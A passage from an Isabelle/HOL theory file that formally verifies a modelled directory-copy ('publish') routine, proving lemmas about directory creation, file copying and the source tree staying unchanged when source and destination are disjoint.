lemma mkdirs_dirs:
  assumes "plain cs"
  shows "mkdirs name cur cs t = Inr t' \<Longrightarrow> q \<noteq> [] \<Longrightarrow> prefix q cs \<Longrightarrow> is_dir t' (cur @ q)"
  using assms
proof (induction cs arbitrary: cur t q)
  case Nil
  then show ?case by simp
next
  case (Cons c cs)
  from Cons.prems(4) have pl: "c \<noteq> ''..''" "plain cs" by (auto simp: plain_def)
  from Cons.prems(2,3) obtain q' where q: "q = c # q'" and q': "prefix q' cs"
    by (cases q) auto
  from Cons.prems(1) pl obtain t1 where t1: "mkdirs name (cur @ [c]) cs t1 = Inr t'"
    and d: "is_dir t1 (cur @ [c])"
    by (auto simp: is_dir_def node_at_append_Dir split: option.splits node.splits)
  show ?case
  proof (cases "q' = []")
    case True
    have "grows (cur @ [c] @ cs) t1 t'"
      using pl(2) by (intro mkdirs_grows [OF _ _ t1]) (auto intro: beside_prefix_append simp: beside_def)
    with d show ?thesis by (simp add: q True grows_def)
  next
    case False
    from Cons.IH [OF t1 False q' pl(2)] show ?thesis by (simp add: q)
  qed
qed

lemma mkdirs_noop:
  assumes "plain cs" and "\<And>q. q \<noteq> [] \<Longrightarrow> prefix q cs \<Longrightarrow> is_dir t (cur @ q)"
  shows "mkdirs name cur cs t = Inr t"
  using assms
proof (induction cs arbitrary: cur)
  case Nil
  then show ?case by simp
next
  case (Cons c cs)
  from Cons.prems(1) have pl: "c \<noteq> ''..''" "plain cs" by (auto simp: plain_def)
  from Cons.prems(2) [of "[c]"] have d: "node_at t (cur @ [c]) = Some Dir"
    by (simp add: is_dir_def)
  have "mkdirs name (cur @ [c]) cs t = Inr t"
  proof (rule Cons.IH [OF pl(2)])
    fix q assume "q \<noteq> []" "prefix q cs"
    then show "is_dir t ((cur @ [c]) @ q)"
      using Cons.prems(2) [of "c # q"] by simp
  qed
  with d pl show ?case by simp
qed

lemma mkdirs_keeps:
  "mkdirs name cur cs t = Inr t' \<Longrightarrow> node_at t p = Some x \<Longrightarrow> node_at t' p = Some x"
proof (induction cs arbitrary: cur t)
  case Nil
  then show ?case by simp
next
  case (Cons c cs)
  show ?case
  proof (cases "c = ''..''")
    case True
    with Cons.prems have "mkdirs name (butlast cur) cs t = Inr t'" by simp
    from Cons.IH [OF this Cons.prems(2)] show ?thesis .
  next
    case False
    show ?thesis
    proof (cases "node_at t (cur @ [c])")
      case None
      with Cons.prems(1) False have m: "mkdirs name (cur @ [c]) cs (t @ [(cur @ [c], Dir)]) = Inr t'"
        by simp
      from Cons.prems(2) have "node_at (t @ [(cur @ [c], Dir)]) p = Some x"
        by (simp add: node_at_append_Dir)
      from Cons.IH [OF m this] show ?thesis .
    next
      case (Some y)
      with Cons.prems(1) False have "mkdirs name (cur @ [c]) cs t = Inr t'"
        by (auto split: node.splits)
      from Cons.IH [OF this Cons.prems(2)] show ?thesis .
    qed
  qed
qed

lemma copy2_Inr:
  assumes "copy2 item T t = Inr t'"
  obtains c where "node_at t item = Some (File c)"
    and "node_at t (if is_dir t T then T @ [last item] else T) \<noteq> Some Dir"
    and "t' = AList.update (if is_dir t T then T @ [last item] else T) (File c) t"
  using assms
  by (auto simp: copy2_def Let_def split: if_splits option.splits node.splits)

lemma update_grows:
  assumes "beside dst d" and "node_at t d \<noteq> Some Dir"
  shows "grows dst t (AList.update d (File c) t)"
proof -
  from assms(2) have ne: "d \<noteq> []" by (auto simp: node_at_def)
  have "filter (\<lambda>p. \<not> beside dst p) (map fst (AList.update d (File c) t))
          = filter (\<lambda>p. \<not> beside dst p) (map fst t)"
    using assms(1) by (simp add: update_keys)
  moreover have "\<forall>p. \<not> beside dst p \<longrightarrow> map_of (AList.update d (File c) t) p = map_of t p"
    using assms(1) by (auto simp: update_conv')
  moreover have "\<forall>p. is_dir t p \<longrightarrow> is_dir (AList.update d (File c) t) p"
    using assms(2) ne by (auto simp: is_dir_def node_at_update)
  ultimately show ?thesis by (simp add: grows_def)
qed

lemma beside_dest: "beside dst (dest src dst t item)"
  by (simp add: dest_def target_def beside_def)

lemma under_not_beside:
  assumes "\<not> prefix src dst" and "\<not> prefix dst src" and "prefix src p"
  shows "\<not> beside dst p"
  using assms unfolding beside_def
  by (metis prefix_order.trans prefix_same_cases)

lemma grows_node_at:
  assumes "grows dst t t'" and "\<not> beside dst p"
  shows "node_at t' p = node_at t p"
  using assms by (simp add: grows_def node_at_def)

lemma plain_target:
  "plain dst \<Longrightarrow> plain item \<Longrightarrow> plain (butlast (target src dst item))"
  by (auto simp: plain_def target_def dest!: in_set_butlastD dest: in_set_dropD)

text \<open>One round of the loop.\<close>

lemma copy_step:
  assumes dj: "\<not> prefix src dst" "\<not> prefix dst src"
    and pl: "plain dst" "plain item" and us: "prefix src item"
    and m: "mkdir_parents (butlast (target src dst item)) g = Inr g1"
    and c: "copy2 item (target src dst item) g1 = Inr g2"
  obtains c where "node_at g item = Some (File c)" and "settled src dst g2 item c"
    and "grows dst g g2" and "grows dst g g1" and "node_at g1 (dest src dst g1 item) \<noteq> Some Dir"
    and "g2 = AList.update (dest src dst g1 item) (File c) g1"
proof -
  let ?T = "target src dst item"
  let ?D = "dest src dst g1 item"
  have plT: "plain (butlast ?T)" using pl by (rule plain_target)
  have bs: "\<And>q. prefix q ([] @ butlast ?T) \<Longrightarrow> beside dst q"
  proof -
    fix q assume "prefix q ([] @ butlast ?T)"
    then have "prefix q ?T" using prefixeq_butlast [of ?T] by (simp add: prefix_order.trans)
    then show "beside dst q" unfolding target_def by (rule beside_prefix_append)
  qed
  from m have m': "mkdirs (render (butlast ?T)) [] (butlast ?T) g = Inr g1"
    by (simp add: mkdir_parents_def)
  from mkdirs_grows [OF plT bs m'] have g1: "grows dst g g1" .
  have chain: "\<And>q. q \<noteq> [] \<Longrightarrow> prefix q (butlast ?T) \<Longrightarrow> is_dir g1 q"
    using mkdirs_dirs [OF plT m'] by simp
  from c obtain cc where cc: "node_at g1 item = Some (File cc)"
    and nd: "node_at g1 ?D \<noteq> Some Dir"
    and g2: "g2 = AList.update ?D (File cc) g1"
    unfolding dest_def by (rule copy2_Inr)
  have nb: "\<not> beside dst item" using dj us by (rule under_not_beside)
  from cc have cg: "node_at g item = Some (File cc)"
    using grows_node_at [OF g1 nb] by simp
  have g12: "grows dst g1 g2" unfolding g2 using beside_dest nd by (rule update_grows)
  from nd have ne: "?D \<noteq> []" by (auto simp: node_at_def)
  have same: "is_dir g2 ?T = is_dir g1 ?T"
  proof (cases "?T = ?D")
    case True
    then have "\<not> is_dir g1 ?T" using nd by (simp add: is_dir_def)
    moreover have "\<not> is_dir g2 ?T" using True ne by (simp add: g2 is_dir_def node_at_update)
    ultimately show ?thesis by simp
  next
    case False
    then show ?thesis using ne by (simp add: g2 is_dir_def node_at_update)
  qed
  then have D2: "dest src dst g2 item = ?D" by (simp add: dest_def)
  have "settled src dst g2 item cc"
    unfolding settled_def D2
  proof (intro conjI allI impI)
    fix q assume "q \<noteq> [] \<and> prefix q (butlast ?T)"
    then have "is_dir g1 q" using chain by simp
    then show "is_dir g2 q" using g12 by (simp add: grows_def)
  next
    show "node_at g2 ?D = Some (File cc)" using ne by (simp add: g2 node_at_update)
  qed
  with cg show thesis
    using grows_trans [OF g1 g12] g1 nd g2 by (intro that)
qed

lemma target_inj:
  assumes "prefix src i" and "prefix src j" and "target src dst j = target src dst i"
  shows "j = i"
proof -
  from assms(1,2) obtain a b where "i = src @ a" "j = src @ b" by (auto elim!: prefixE)
  with assms(3) show ?thesis by (simp add: target_def)
qed

lemma target_snoc:
  assumes "prefix src i" and "prefix src j" and "target src dst j = target src dst i @ [x]"
  shows "strict_prefix i j"
proof -
  from assms(1,2) obtain a b where "i = src @ a" "j = src @ b" by (auto elim!: prefixE)
  with assms(3) show ?thesis by (auto simp: target_def strict_prefix_def)
qed

lemma settled_kept:
  assumes dj: "\<not> prefix src dst" "\<not> prefix dst src"
    and pl: "plain dst" "plain j" and us: "prefix src i" "prefix src j"
    and ni: "\<not> strict_prefix i j" "\<not> strict_prefix j i"
    and gi: "node_at g i = Some (File ci)"
    and si: "settled src dst g i ci"
    and m: "mkdir_parents (butlast (target src dst j)) g = Inr g1"
    and c: "copy2 j (target src dst j) g1 = Inr g2"
  shows "settled src dst g2 i ci"
proof -
  let ?Ti = "target src dst i" and ?Tj = "target src dst j"
  let ?Dj = "dest src dst g1 j"
  from copy_step [OF dj pl us(2) m c] obtain cj where cj: "node_at g j = Some (File cj)"
    and gg2: "grows dst g g2" and nd: "node_at g1 ?Dj \<noteq> Some Dir"
    and g2: "g2 = AList.update ?Dj (File cj) g1"
    by blast
  from nd have ne: "?Dj \<noteq> []" by (auto simp: node_at_def)
  from m have m': "mkdirs (render (butlast ?Tj)) [] (butlast ?Tj) g = Inr g1"
    by (simp add: mkdir_parents_def)
  have keep: "\<And>p x. node_at g p = Some x \<Longrightarrow> node_at g1 p = Some x"
    using m' by (rule mkdirs_keeps)
  have same: "j = i \<Longrightarrow> cj = ci" using gi cj by simp
  have Dj: "?Dj = ?Tj \<or> ?Dj = ?Tj @ [last j]" by (simp add: dest_def)
  have chain: "\<forall>q. q \<noteq> [] \<and> prefix q (butlast ?Ti) \<longrightarrow> is_dir g2 q"
    using si gg2 by (simp add: settled_def grows_def)
  show ?thesis
  proof (cases "is_dir g ?Ti")
    case True
    with si have a: "node_at g (?Ti @ [last i]) = Some (File ci)"
      by (simp add: settled_def dest_def)
    from True gg2 have d2: "is_dir g2 ?Ti" by (simp add: grows_def)
    have "node_at g2 (?Ti @ [last i]) = Some (File ci)"
    proof (cases "?Ti @ [last i] = ?Dj")
      case eq: True
      from Dj have "j = i"
      proof
        assume "?Dj = ?Tj"
        with eq have "?Tj = ?Ti @ [last i]" by simp
        from target_snoc [OF us this] ni(1) show ?thesis by simp
      next
        assume "?Dj = ?Tj @ [last j]"
        with eq have "?Tj = ?Ti" by simp
        from target_inj [OF us this] show ?thesis .
      qed
      with same eq ne show ?thesis by (simp add: g2 node_at_update)
    next
      case False
      with keep [OF a] ne show ?thesis by (simp add: g2 node_at_update)
    qed
    with d2 chain show ?thesis by (simp add: settled_def dest_def)
  next
    case False
    with si have a: "node_at g ?Ti = Some (File ci)"
      by (simp add: settled_def dest_def)
    have b: "node_at g2 ?Ti = Some (File ci)"
    proof (cases "?Ti = ?Dj")
      case eq: True
      from Dj have "j = i"
      proof
        assume "?Dj = ?Tj"
        with eq have "?Tj = ?Ti" by simp
        from target_inj [OF us this] show ?thesis .
      next
        assume "?Dj = ?Tj @ [last j]"
        with eq have "?Ti = ?Tj @ [last j]" by simp
        from target_snoc [OF us(2,1) this] ni(2) show ?thesis by simp
      qed
      with same eq ne show ?thesis by (simp add: g2 node_at_update)
    next
      case False
      with keep [OF a] ne show ?thesis by (simp add: g2 node_at_update)
    qed
    then have "\<not> is_dir g2 ?Ti" by (simp add: is_dir_def)
    with b chain show ?thesis by (simp add: settled_def dest_def)
  qed
qed


lemma grows_is_file:
  assumes "grows dst t t'" and "\<not> beside dst p"
  shows "is_file t' p = is_file t p"
  using grows_node_at [OF assms] by (simp add: is_file_def)

lemma is_file_iff: "is_file t p \<longleftrightarrow> (\<exists>c. node_at t p = Some (File c))"
  by (auto simp: is_file_def split: option.splits node.splits)

lemma copy_items_run:
  assumes dj: "\<not> prefix src dst" "\<not> prefix dst src" and pd: "plain dst"
    and K: "\<And>i. i \<in> A \<Longrightarrow> prefix src i \<and> plain i"
    and F: "\<And>i j. i \<in> A \<Longrightarrow> j \<in> A \<Longrightarrow> is_file t0 i \<Longrightarrow> is_file t0 j \<Longrightarrow> \<not> strict_prefix i j"
  shows "grows dst t0 g \<Longrightarrow> set items \<subseteq> A \<Longrightarrow> copy_items src dst items g = Inr (n, T) \<Longrightarrow>
         grows dst g T \<and> n = length (filter (is_file t0) items) \<and>
         (\<forall>i\<in>A. \<forall>c. node_at t0 i = Some (File c) \<and> settled src dst g i c \<longrightarrow> settled src dst T i c) \<and>
         (\<forall>i\<in>set items. \<forall>c. node_at t0 i = Some (File c) \<longrightarrow> settled src dst T i c)"
proof (induction items arbitrary: g n)
  case Nil
  then show ?case by (simp add: grows_refl)
next
  case (Cons h rest)
  from Cons.prems(2) have hA: "h \<in> A" and rA: "set rest \<subseteq> A" by simp_all
  from K [OF hA] have hs: "prefix src h" and hp: "plain h" by simp_all
  have hb: "\<not> beside dst h" using dj hs by (rule under_not_beside)
  have hf: "is_file g h = is_file t0 h" using Cons.prems(1) hb by (rule grows_is_file)
  show ?case
  proof (cases "is_file t0 h")
    case False
    with hf Cons.prems(3) have "copy_items src dst rest g = Inr (n, T)" by simp
    from Cons.IH [OF Cons.prems(1) rA this] False show ?thesis
      by (auto simp: is_file_iff)
  next
    case True
    then obtain ch where ch: "node_at t0 h = Some (File ch)" by (auto simp: is_file_iff)
    from True hf Cons.prems(3) obtain g1 g2 n' where
      m: "mkdir_parents (butlast (target src dst h)) g = Inr g1"
      and c: "copy2 h (target src dst h) g1 = Inr g2"
      and r: "copy_items src dst rest g2 = Inr (n', T)" and n: "n = Suc n'"
      by (auto simp: target_def Let_def split: sum.splits)
    from copy_step [OF dj pd hp hs m c] obtain c' where
      c': "node_at g h = Some (File c')" and sh: "settled src dst g2 h c'" and gg2: "grows dst g g2"
      by blast
    from c' ch grows_node_at [OF Cons.prems(1) hb] have cc: "c' = ch" by simp
    have g02: "grows dst t0 g2" using Cons.prems(1) gg2 by (rule grows_trans)
    note IH = Cons.IH [OF g02 rA r]
    have kept: "settled src dst g2 i c"
      if "i \<in> A" and "node_at t0 i = Some (File c)" and "settled src dst g i c" for i c
    proof -
      from K [OF that(1)] have pi: "prefix src i" by simp
      have ib: "\<not> beside dst i" using dj pi by (rule under_not_beside)
      from that(2) have fi: "is_file t0 i" by (auto simp: is_file_iff)
      from that(2) grows_node_at [OF Cons.prems(1) ib] have gi: "node_at g i = Some (File c)" by simp
      from F [OF that(1) hA fi True] F [OF hA that(1) True fi]
      show ?thesis
        using settled_kept [OF dj pd hp pi hs _ _ gi that(3) m c] by blast
    qed
    show ?thesis
    proof (intro conjI ballI allI impI)
      show "grows dst g T" using gg2 IH by (blast intro: grows_trans)
      show "n = length (filter (is_file t0) (h # rest))" using IH True n by simp
    next
      fix i c assume "i \<in> A" and "node_at t0 i = Some (File c) \<and> settled src dst g i c"
      with kept [of i c] IH show "settled src dst T i c" by blast
    next
      fix i c assume i: "i \<in> set (h # rest)" and ic: "node_at t0 i = Some (File c)"
      show "settled src dst T i c"
      proof (cases "i = h")
        case True
        with ic ch cc sh have "settled src dst g2 h c" by simp
        with IH hA ic True show ?thesis by blast
      next
        case False
        with i ic IH show ?thesis by auto
      qed
    qed
  qed
qed


lemma glob_all_grows:
  assumes "\<not> prefix src dst" and "\<not> prefix dst src" and "grows dst t t'"
  shows "glob_all src t' = glob_all src t"
proof -
  have nb: "strict_prefix src p \<Longrightarrow> \<not> beside dst p" for p
    using under_not_beside [OF assms(1,2), of p] by (simp add: strict_prefix_def)
  have r: "filter (strict_prefix src) xs
             = filter (strict_prefix src) (filter (\<lambda>p. \<not> beside dst p) xs)" for xs
    using nb by (induction xs) auto
  from assms(3) have q: "filter (\<lambda>p. \<not> beside dst p) (map fst t')
                           = filter (\<lambda>p. \<not> beside dst p) (map fst t)"
    by (simp add: grows_def)
  have "glob_all src t' = filter (strict_prefix src) (filter (\<lambda>p. \<not> beside dst p) (map fst t'))"
    unfolding glob_all_def by (rule r)
  also have "\<dots> = filter (strict_prefix src) (filter (\<lambda>p. \<not> beside dst p) (map fst t))"
    by (simp only: q)
  also have "\<dots> = glob_all src t"
    unfolding glob_all_def by (rule r [symmetric])
  finally show ?thesis .
qed

lemma mkdir_first:
  assumes "(if parents then mkdir_parents dst t else mkdir True dst t) = Inr t1" and "plain dst"
  shows "grows dst t t1"
    and "grows dst t1 T \<Longrightarrow> (if parents then mkdir_parents dst T else mkdir True dst T) = Inr T"
proof -
  have both: "grows dst t t1 \<and> (\<forall>q. q \<noteq> [] \<and> prefix q dst \<longrightarrow> parents \<longrightarrow> is_dir t1 q) \<and> is_dir t1 dst"
  proof (cases parents)
    case True
    with assms(1) have m: "mkdirs (render dst) [] dst t = Inr t1" by (simp add: mkdir_parents_def)
    have "grows dst t t1"
      using assms(2) _ m by (rule mkdirs_grows) (simp add: beside_def)
    moreover have d: "\<And>q. q \<noteq> [] \<Longrightarrow> prefix q dst \<Longrightarrow> is_dir t1 q"
      using mkdirs_dirs [OF assms(2) m] by simp
    moreover have "is_dir t1 dst"
      using d [of dst] by (cases "dst = []") (simp_all add: is_dir_def node_at_def)
    ultimately show ?thesis by simp
  next
    case False
    with assms(1) have m: "mkdir True dst t = Inr t1" by simp
    then consider "node_at t dst = Some Dir" "t1 = t" | "node_at t dst = None" "t1 = t @ [(dst, Dir)]"
      by (auto simp: mkdir_def split: option.splits node.splits)
    then show ?thesis
    proof cases
      case 1
      with False show ?thesis by (simp add: grows_refl is_dir_def)
    next
      case 2
      have "beside dst dst" by (simp add: beside_def)
      from grows_append_Dir [OF this 2(1)] 2 False show ?thesis
        by (simp add: is_dir_def node_at_append_Dir)
    qed
  qed
  then show "grows dst t t1" by simp
  assume g: "grows dst t1 T"
  show "(if parents then mkdir_parents dst T else mkdir True dst T) = Inr T"
  proof (cases parents)
    case True
    have "mkdirs (render dst) [] dst T = Inr T"
    proof (rule mkdirs_noop [OF assms(2)])
      fix q assume "q \<noteq> []" "prefix q dst"
      with both True have "is_dir t1 q" by simp
      with g show "is_dir T ([] @ q)" by (simp add: grows_def)
    qed
    with True show ?thesis by (simp add: mkdir_parents_def)
  next
    case False
    from both g have "is_dir T dst" by (simp add: grows_def)
    with False show ?thesis by (simp add: mkdir_def is_dir_def)
  qed
qed

lemma tree_likeD:
  assumes "tree_like t" and "q \<in> fst ` set t"
  shows "plain q" and "strict_prefix p q \<Longrightarrow> \<not> is_file t p"
proof -
  from assms(2) have "q \<in> set (map fst t)" by simp
  with assms(1) have a: "plain q \<and> (\<forall>p\<in>set (prefixes q). p = q \<or> \<not> is_file t p)"
    unfolding tree_like_def list_all_iff by blast
  then show "plain q" by simp
  assume "strict_prefix p q"
  then have "p \<in> set (prefixes q)" and "p \<noteq> q" by (simp_all add: strict_prefix_def)
  with a show "\<not> is_file t p" by blast
qed

lemma publish_keeps_source:
  assumes "tree_like t" and "plain dst" and "\<not> prefix src dst" and "\<not> prefix dst src"
    and "publish parents src dst t = Inr (n, t')"
  shows "glob_all src t' = glob_all src t" and "prefix src p \<Longrightarrow> node_at t' p = node_at t p"
proof -
  from assms(5) obtain t1 where
    first: "(if parents then mkdir_parents dst t else mkdir True dst t) = Inr t1"
    and run: "copy_items src dst (glob_all src t1) t1 = Inr (n, t')"
    by (auto simp: publish_def split: sum.splits)
  note g1 = mkdir_first(1) [OF first assms(2)]
  have items: "glob_all src t1 = glob_all src t" using assms(3,4) g1 by (rule glob_all_grows)
  have K: "prefix src i \<and> plain i" if "i \<in> set (glob_all src t)" for i
    using that tree_likeD(1) [OF assms(1), of i] by (auto simp: glob_all_def strict_prefix_def)
  have F: "\<not> strict_prefix i j"
    if "i \<in> set (glob_all src t)" "j \<in> set (glob_all src t)" "is_file t i" "is_file t j" for i j
    using that tree_likeD(2) [OF assms(1), of j i] by (auto simp: glob_all_def)
  from run have "copy_items src dst (glob_all src t) t1 = Inr (n, t')" by (simp add: items)
  from copy_items_run [OF assms(3,4,2) K F g1 subset_refl this] have "grows dst t1 t'" by blast
  with g1 have g: "grows dst t t'" by (rule grows_trans)
  from assms(3,4) g show "glob_all src t' = glob_all src t" by (rule glob_all_grows)
  assume "prefix src p"
  with assms(3,4) have "\<not> beside dst p" by (rule under_not_beside)
  with g show "node_at t' p = node_at t p" by (rule grows_node_at)
qed



end
